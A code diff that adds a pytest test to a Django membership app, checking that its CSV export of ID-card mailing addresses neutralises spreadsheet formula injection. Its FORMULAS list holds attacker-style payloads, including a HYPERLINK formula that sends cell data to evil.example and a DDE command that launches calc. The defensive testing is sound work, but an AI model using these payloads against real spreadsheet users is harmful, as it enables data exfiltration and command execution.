@@ -20,6 +20,7 @@ from idcards.services import idcard_order, idcard_orders_mark_mailed
 from members.models import Address, Member, User
 from outbox.models import Email
 from tests.queries import queries_for
+from tests.security.conftest import staff_client
 
 ORDER_URL = "/profile/id-cards/order/"
 
@@ -250,6 +251,49 @@ def test_csv_export_for_the_card_printer(order_admin: IdCardOrderAdmin, orders: 
     assert first[0] == orders[0].member.member_id
     assert first[3:8] == ["0 Oak St", "", "Watsonville", "CA", "95076"]
     assert datetime.date.fromisoformat(first[8])
+
+
+# What an attacker types as a mailing address, hoping staff open the printer's file in a spreadsheet.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/steal?d="&B2&C2,"Open")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "+1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_printer_file_never_holds_a_formula(make_member: Callable[..., Member]) -> None:
+    member = make_member(first_name="Ana", last_name="Lopez")
+    line1, line2, city, *others = FORMULAS
+    order = IdCardOrder.objects.create(
+        member=member, line1=line1, line2=line2, city=city, state="CA", zip_code="95076"
+    )
+    for formula in others:
+        IdCardOrder.objects.create(
+            member=make_member(), line1=formula, city="Salinas", state="CA", zip_code="93901"
+        )
+    staff = staff_client("rosa.agent")
+
+    response = staff.post(
+        "/admin/idcards/idcardorder/",
+        {
+            "action": "export_csv",
+            "index": "0",
+            "_selected_action": list(IdCardOrder.objects.values_list("pk", flat=True)),
+        },
+    )
+
+    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    rows = list(csv.reader(io.StringIO(body)))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # Staff and the printer still read the address as typed, after the quote that disarms it.
+    first = next(row for row in rows if row[0] == member.member_id)
+    assert first[3:6] == ["'" + line1, "'" + line2, "'" + city]
+    assert sorted(row[3] for row in rows[1:] if row[0] != member.member_id) == sorted("'" + f for f in others)
+    assert order.member.member_id in body
 
 
 def test_staff_without_permission_get_no_actions(order_admin: IdCardOrderAdmin, db: None) -> None:
